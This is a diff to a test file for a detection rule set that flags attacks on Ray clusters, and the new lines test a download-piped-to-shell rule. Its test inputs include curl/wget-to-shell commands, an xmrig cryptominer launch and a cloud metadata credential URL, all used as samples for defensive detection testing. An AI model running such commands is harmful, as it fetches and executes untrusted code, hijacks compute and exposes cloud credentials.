@@ -130,6 +130,10 @@ describe('the shipped rule set', () => {
     const submit = ids(e.evaluate(appEvent(T0, 'ray_job_submit', { job: 'raycluster-a' }, { sourceIP: '203.0.113.9', entrypoint: 'bash -c "curl -s http://x/m.sh | sh; ./xmrig -o stratum+tcp://pool:3333"' })));
     expect(submit).toEqual(expect.arrayContaining(['MLS-RAY-001', 'MLS-RAY-003']));
     expect(e.evaluate(appEvent(T0, 'ray_job_submit', { job: 'raycluster-a', actor: 'alice@corp.example' }, { sourceIP: '10.0.3.4', entrypoint: 'python train.py' }))).toEqual([]);
+    // The entrypoint's download piped into a shell alone (MLS-RAY-003's sel_pipe), from the last fetch word before the pipe.
+    const entry = (entrypoint: string): string[] => ids(fresh().evaluate(appEvent(T0, 'ray_job_submit', { job: 'raycluster-a', actor: 'alice@corp.example' }, { sourceIP: '10.0.3.4', entrypoint })));
+    for (const ep of ['curl -s http://x/m.sh | sh', 'wget -qO- http://x/m.sh |  zsh', 'curl -s http://x/a; curl -s http://x/m.sh | bash', 'curl a wget b | dash']) expect(entry(ep), ep).toContain('MLS-RAY-003');
+    for (const ep of ['curl -s http://x/m.sh -o m.sh; cat m.sh | sh', 'curl -s http://x | shasum', 'curl -s http://x || sh', `${'curl '.repeat(800)}`]) expect(entry(ep), ep).not.toContain('MLS-RAY-003');
     expect(ids(e.evaluate(appEvent(T0, 'ray_job_submit', { job: 'raycluster-a', actor: 'anonymous' }, { client_addr: '10.0.3.4', entrypoint: 'python train.py' })))).toEqual(['MLS-RAY-009']);
     expect(ids(e.evaluate(audit(T0, 'list', 'system:serviceaccount:ray:ray-head', { resource: 'secrets', namespace: 'ray' })))).toContain('MLS-RAY-004');
     expect(ids(e.evaluate(appEvent(T0, 'http_request', { job: 'raycluster-a' }, { url: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/' })))).toContain('MLS-RAY-005');
